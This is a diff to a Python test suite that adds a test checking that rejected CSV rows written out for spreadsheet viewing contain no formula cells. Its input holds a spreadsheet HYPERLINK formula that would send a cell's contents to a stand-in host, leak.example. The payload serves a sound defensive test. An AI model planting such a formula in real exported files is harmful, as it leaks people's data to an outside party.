@@ -269,6 +269,21 @@ def test_rejected_rows_are_written_whole_to_a_file_that_only_its_owner_reads(reg
         assert [row["since"] for row in csv.DictReader(source)] == ["no day", "2011-05-01"]
 
 
+def test_rejected_rows_that_are_looked_at_in_a_spreadsheet_hold_no_formula(register, written, tmp_path):
+    formula = '=HYPERLINK("http://leak.example/?"&A2,"x")'
+    file = written(
+        [{"@note": formula, **line(n, since=since)} for n, since in ((1, "no day"), (2, "2011-05-01"))]
+    )
+    take_in(file)
+    target = tmp_path / "rows.csv"
+
+    write_rejected_rows(scan_file(file), default_path(file), target)
+
+    with target.open(encoding="utf-8-sig", newline="") as source:
+        assert [cell for row in csv.reader(source) for cell in row if cell[0] in "=+-@"] == []
+    assert scan_file(target).header == ("@note", "phone", "since", "state")
+
+
 BY_DAYS = {name: part for name, part in RAW.items() if name != "status"} | {
     "status": {"ended_on": "cancel", "barred_on": "susp"}
 }
